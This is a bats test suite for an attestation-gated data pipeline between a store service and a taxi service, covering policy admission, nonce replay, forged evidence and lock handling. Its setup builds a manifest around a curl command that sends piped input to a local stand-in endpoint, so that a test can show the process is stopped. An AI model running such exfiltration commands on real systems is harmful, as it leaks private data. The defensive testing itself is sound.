#!/usr/bin/env bats
# The store/taxi scenario end to end: the real services, the launcher,
# the tools between them.

load '/usr/lib/bats/bats-support/load'
load '/usr/lib/bats/bats-assert/load'

EX=$TI_TOP/examples/store-taxi
PHONE='555-[0-9]{3}-[0-9]{4}'

setup_file() {
	export PATH="$TI_BUILD/examples/store-taxi:$PATH"
	export D=$BATS_FILE_TMPDIR
	export TI_HOME=$D/home
	cd "$D"
	umask 077
	ti-attest init >/dev/null
	openssl genpkey -algorithm ed25519 -out store.key 2>/dev/null
	openssl pkey -in store.key -pubout -out store.pub
	ti-seal keygen -o taxi.key 2>/dev/null
	ti-seal pubkey -i taxi.key >taxi.pub
	head -c 24 /dev/urandom | base64 >operator.token
	cp "$EX/eligible.jq" "$EX/join.jq" .
	ti-attest manifest eligible.jq --from store.pub --to-file taxi.pub \
	    >eligible.json
	ti-attest manifest join.jq -n --slurpfile receipts receipts.msg \
	    --from store.pub --to-file taxi.pub >join.json
	# A process that tries to send what it reads elsewhere, over TCP.
	ti-attest manifest --from store.pub --to-file taxi.pub \
	    --exec /usr/bin/curl -s --data-binary @- http://127.0.0.1:9/ \
	    >exfil.json
	# The same program edited: another measurement, not admitted.
	sed 's/15000/100/' eligible.jq >edited.jq
	ti-attest manifest edited.jq --from store.pub --to-file taxi.pub \
	    >edited.json
	m=$(ti-attest measure --manifest eligible.json)
	j=$(ti-attest measure --manifest join.json)
	x=$(ti-attest measure --manifest exfil.json)
	printf '{"/customers":["%s","%s"],"/contacts":["%s"],"/receipts":["%s"]}\n' \
	    "$m" "$x" "$j" "$j" >store-policy.json
	printf '{"/bookings":["%s","%s","%s"]}\n' "$m" "$j" "$x" \
	    >taxi-policy.json
	store-service --db store.db --gen 300 --seed 7
	store-service --db store.db --dump /customers >customers.ndjson
	jq -c -f eligible.jq customers.ndjson | sort >expected.ndjson
	store-service --db store.db --key store.key --trust "$TI_HOME/root.pem" \
	    --policy store-policy.json --port-file store.port >/dev/null \
	    2>store.log 3>&- &
	echo $! >store.pid
	start_taxi taxi
	for f in store.port taxi.port; do
		for _ in $(seq 100); do [ -s $f ] && break; sleep 0.05; done
	done
	export STORE=http://127.0.0.1:$(cat store.port)
	export TAXI=http://127.0.0.1:$(cat taxi.port)
}

# start_taxi NAME: a taxi-service with its own database NAME.db.
start_taxi() {
	taxi-service --db "$1.db" --identity taxi.key \
	    --trust "$TI_HOME/root.pem" --policy taxi-policy.json \
	    --token-file operator.token --port-file "$1.port" >/dev/null \
	    2>"$1.log" 3>&- &
	echo $! >"$1.pid"
}

teardown_file() {
	cd "$D" || return
	for p in *.pid; do
		[ -e "$p" ] && kill "$(cat "$p")" 2>/dev/null
	done
	for p in *.pid; do
		[ -e "$p" ] || continue
		while kill -0 "$(cat "$p")" 2>/dev/null; do sleep 0.05; done
	done
	return 0
}

setup() {
	cd "$D"
}

bookings() {	# the taxi's bookings, one JSON object a line, sorted
	curl -sf -H "Authorization: Bearer $(cat operator.token)" \
	    "${1:-$TAXI}/bookings" | jq -c '.[] | {customer, phone, address}' |
	    sort
}

launch() {	# launch MANIFEST [ENV...]: the launcher, status and stderr
	local m=$1
	shift
	run env TI_MANIFEST="$m" STORE_URL="$STORE/customers" \
	    TAXI_URL="$TAXI/bookings" LAUNCHER_LOCK="$D/launcher.lock" "$@" \
	    "$EX/launcher.sh"
}

@test "the launcher books exactly the customers jq finds eligible" {
	mkdir -p tee1
	launch eligible.json LAUNCHER_TEE="$D/tee1"
	assert_success
	assert_output --partial "fetch=0 run=0 post=0 exit=0"
	refute_output --regexp "$PHONE"
	[ "$(wc -l <expected.ndjson)" -gt 50 ]
	bookings >booked.ndjson
	run diff expected.ndjson booked.ndjson
	assert_success
}

@test "running the launcher again books nobody twice" {
	launch eligible.json
	assert_success
	bookings >again.ndjson
	run diff expected.ndjson again.ndjson
	assert_success
	run sqlite3 taxi.db "SELECT customer, date FROM bookings GROUP BY
	    customer, date HAVING count(*) > 1"
	assert_output ""
}

@test "nothing between the tools holds a phone number in the clear" {
	# The plaintext has them: the grep would see one.
	grep -Eq "$PHONE" customers.ndjson
	[ -s tee1/fetch.ndjson ] && [ -s tee1/run.ndjson ]
	run grep -rEl "$PHONE" tee1 "$TI_HOME"
	assert_failure 1
	assert_output ""
	run grep -Eq "$PHONE" store.log taxi.log
	assert_failure 1
}

@test "an edited eligible.jq gets 403 from the store and books nothing" {
	before=$(bookings | wc -l)
	launch edited.json
	assert_failure 7
	assert_output --partial "policy denied"
	run grep -c "GET /customers 403" store.log
	assert_output 1
	[ "$(bookings | wc -l)" -eq "$before" ]
}

@test "a source that fails after another was read books nothing" {
	msgs=$(sqlite3 taxi.db "SELECT count(*) FROM messages")
	launch eligible.json STORE_URL="$STORE/customers?limit=10 $STORE/nowhere"
	assert_failure 7
	assert_output --partial "fetch=7"
	[ "$(sqlite3 taxi.db "SELECT count(*) FROM messages")" -eq "$msgs" ]
}

@test "a process that tries to send data elsewhere is stopped by ti-run" {
	before=$(bookings | wc -l)
	launch exfil.json
	assert_failure 6
	assert_output --partial "run=6"
	[ "$(bookings | wc -l)" -eq "$before" ]
}

@test "the join of two resources (--slurpfile) books the same customers" {
	start_taxi taxi2
	for _ in $(seq 100); do [ -s taxi2.port ] && break; sleep 0.05; done
	t2=http://127.0.0.1:$(cat taxi2.port)
	run env TI_MANIFEST=join.json STORE_URL="$STORE/contacts" \
	    LAUNCHER_SLURP="receipts=$STORE/receipts" TAXI_URL="$t2/bookings" \
	    LAUNCHER_LOCK="$D/launcher.lock" "$EX/launcher.sh"
	assert_success
	bookings "$t2" >joined.ndjson
	run diff expected.ndjson joined.ndjson
	assert_success
}

@test "another process booking the same customers the same day adds nobody" {
	msgs=$(sqlite3 taxi.db "SELECT count(*) FROM messages")
	run env TI_MANIFEST=join.json STORE_URL="$STORE/contacts" \
	    LAUNCHER_SLURP="receipts=$STORE/receipts" TAXI_URL="$TAXI/bookings" \
	    LAUNCHER_LOCK="$D/launcher.lock" "$EX/launcher.sh"
	assert_success
	[ "$(sqlite3 taxi.db "SELECT count(*) FROM messages")" -gt "$msgs" ]
	bookings >same.ndjson
	run diff expected.ndjson same.ndjson
	assert_success
}

@test "the plaintext twins (benchmarking only) give the same bookings" {
	store-service --db store.db --plain --port-file pstore.port \
	    >/dev/null 2>pstore.log 3>&- &
	echo $! >pstore.pid
	taxi-service --db ptaxi.db --token-file operator.token --plain \
	    --port-file ptaxi.port >/dev/null 2>ptaxi.log 3>&- &
	echo $! >ptaxi.pid
	for f in pstore.port ptaxi.port; do
		for _ in $(seq 100); do [ -s $f ] && break; sleep 0.05; done
	done
	grep -q "BENCHMARKING ONLY" pstore.log
	curl -sf "http://127.0.0.1:$(cat pstore.port)/customers" |
	    jq -c -f eligible.jq |
	    curl -sf --data-binary @- "http://127.0.0.1:$(cat ptaxi.port)/bookings"
	bookings "http://127.0.0.1:$(cat ptaxi.port)" >plain.ndjson
	run diff expected.ndjson plain.ndjson
	assert_success
}

@test "the store answers an unattested request with a challenge and nothing else" {
	run curl -s -D hdr -o body "$STORE/customers"
	assert_success
	run grep -c "^HTTP/1.1 401" hdr
	assert_output 1
	grep -q '^WWW-Authenticate: TI-Attest nonce="[A-Za-z0-9_-]\{43\}"' hdr
	grep -q "^TI-Error: no-credentials" hdr
	[ "$(wc -l <body)" -eq 1 ]
	run grep -Ec "$PHONE" body
	assert_output 0
}

# attest URL MANIFEST [CURL-OPTIONS]: "nonce evidence" for a fresh challenge.
attest() {
	local n
	n=$(curl -s -D - -o /dev/null "${@:3}" "$1" | tr -d '\r' |
	    sed -n 's/^WWW-Authenticate: TI-Attest nonce="\([^"]*\)".*/\1/p')
	printf '%s %s\n' "$n" "$(ti-attest quote --manifest "$2" --nonce "$n")"
}

@test "the store releases sealed data once per nonce; a replay gets 401" {
	read -r n ev < <(attest "$STORE/customers" eligible.json)
	run curl -s -o msg -w '%{http_code}' -H "Authorization: TI-Attest $ev" \
	    -H "TI-Nonce: $n" "$STORE/customers"
	assert_output 200
	run jq -r '[.run, .seq, .last] | @tsv' msg
	assert_output "$(printf '%s\t0\ttrue' "$n")"
	run grep -Ec "$PHONE" msg
	assert_output 0
	run curl -s -D hdr -o body -w '%{http_code}' \
	    -H "Authorization: TI-Attest $ev" -H "TI-Nonce: $n" "$STORE/customers"
	assert_output 401
	grep -q "^TI-Error: nonce-replayed" hdr
	run grep -Ec "$PHONE" body
	assert_output 0
}

@test "the store refuses a measurement its policy does not admit (403)" {
	read -r n ev < <(attest "$STORE/customers" edited.json)
	run curl -s -D hdr -o body -w '%{http_code}' \
	    -H "Authorization: TI-Attest $ev" -H "TI-Nonce: $n" "$STORE/customers"
	assert_output 403
	grep -q "^TI-Error: policy-denied" hdr
	# Admitted for /contacts is not admitted for /customers.
	read -r n ev < <(attest "$STORE/customers" join.json)
	run curl -s -o /dev/null -w '%{http_code}' \
	    -H "Authorization: TI-Attest $ev" -H "TI-Nonce: $n" "$STORE/customers"
	assert_output 403
}

@test "a store that admits only hardware refuses sim evidence (403)" {
	store-service --db store.db --key store.key --trust "$TI_HOME/root.pem" \
	    --policy store-policy.json --tee '.tee == "tdx"' \
	    --port-file hw.port >/dev/null 2>hw.log 3>&- &
	echo $! >hw.pid
	for _ in $(seq 100); do [ -s hw.port ] && break; sleep 0.05; done
	hw=http://127.0.0.1:$(cat hw.port)
	read -r n ev < <(attest "$hw/customers" eligible.json)
	run curl -s -D hdr -o body -w '%{http_code}' \
	    -H "Authorization: TI-Attest $ev" -H "TI-Nonce: $n" "$hw/customers"
	assert_output 403
	grep -q "^TI-Error: policy-denied" hdr
	kill "$(cat hw.pid)"
	rm hw.pid
}

@test "the store refuses forged evidence (401) and unknown resources (404)" {
	read -r n ev < <(attest "$STORE/customers" eligible.json)
	# One character of the signature changed.
	c=${ev: -10:1}
	[ "$c" = A ] && r=B || r=A
	forged=${ev:0:${#ev}-10}$r${ev: -9}
	[ "$forged" != "$ev" ] && [ ${#forged} -eq ${#ev} ]
	run curl -s -D hdr -o /dev/null -w '%{http_code}' \
	    -H "Authorization: TI-Attest $forged" -H "TI-Nonce: $n" \
	    "$STORE/customers"
	assert_output 401
	grep -q "^TI-Error: bad-evidence" hdr
	run curl -s -o /dev/null -w '%{http_code}' "$STORE/orders"
	assert_output 404
	run curl -s -o /dev/null -w '%{http_code}' -X POST "$STORE/customers"
	assert_output 405
}

@test "the taxi lists bookings only for the operator's token" {
	run curl -s -o /dev/null -w '%{http_code}' "$TAXI/bookings"
	assert_output 401
	run curl -s -o /dev/null -w '%{http_code}' \
	    -H "Authorization: Bearer not-the-operator-token" "$TAXI/bookings"
	assert_output 403
}

@test "the taxi refuses a message not signed by the attested process" {
	read -r n ev < <(attest "$TAXI/bookings" eligible.json -X POST)
	# A message from the store's key, not the process's sig_key.
	read -r n2 ev2 < <(attest "$STORE/customers" eligible.json)
	curl -s -H "Authorization: TI-Attest $ev2" -H "TI-Nonce: $n2" \
	    "$STORE/customers" >store-msg
	run curl -s -D hdr -o /dev/null -w '%{http_code}' \
	    -H "Authorization: TI-Attest $ev" -H "TI-Nonce: $n" \
	    -H "Content-Type: application/vnd.ti.message+json" \
	    --data-binary @store-msg "$TAXI/bookings"
	assert_output 403
	grep -q "^TI-Error: signer-mismatch" hdr
}

@test "the launcher skips a run while another holds the lock (exit 1)" {
	flock launcher.lock sleep 3 &
	sleep 0.3
	launch eligible.json
	assert_failure 1
	assert_output --partial "skipped"
	wait
}

@test "the launcher refuses an incomplete configuration (exit 2)" {
	run env -u STORE_URL TI_MANIFEST=eligible.json TAXI_URL=x \
	    "$EX/launcher.sh"
	assert_failure 2
	assert_output --partial "STORE_URL is not set"
	printf 'TI_MANIFEST=eligible.json\nBOGUS=1\n' >bad.conf
	run "$EX/launcher.sh" bad.conf
	assert_failure 2
	assert_output --partial "unknown setting BOGUS"
}

@test "the services answer --help and --version, and refuse bad usage" {
	for s in store-service taxi-service; do
		run "$s" --help
		assert_success
		assert_output --partial "usage: $s"
		run "$s" --version
		assert_output "$s 0.1.0"
		run "$s" --bogus
		assert_failure 2
	done
	run store-service --db store.db --gen 10
	assert_failure 2
	assert_output --partial "exists"
	run store-service --db store.db --key store.key --trust x
	assert_failure 2
	chmod 644 operator.token
	run taxi-service --db x.db --token-file operator.token --plain
	assert_failure 1
	assert_output --partial "too open"
	chmod 600 operator.token
}

@test "the generator is deterministic" {
	store-service --db a.db --gen 50 --seed 3
	store-service --db b.db --gen 50 --seed 3
	store-service --db c.db --gen 50 --seed 4
	cmp <(store-service --db a.db --dump /customers) \
	    <(store-service --db b.db --dump /customers)
	run cmp -s <(store-service --db a.db --dump /customers) \
	    <(store-service --db c.db --dump /customers)
	assert_failure
}

@test "the services stop on SIGTERM, cleanly (no sanitizer report)" {
	for p in store taxi taxi2 pstore ptaxi; do
		[ -e $p.pid ] || continue
		kill "$(cat $p.pid)"
		for _ in $(seq 200); do
			kill -0 "$(cat $p.pid)" 2>/dev/null || break
			sleep 0.05
		done
		run kill -0 "$(cat $p.pid)"
		assert_failure
		rm $p.pid
		name=${p%2}
		name=${name#p}
		run tail -1 $p.log
		assert_output "$name-service: stopped"
		run grep -c Sanitizer $p.log
		assert_output 0
	done
}
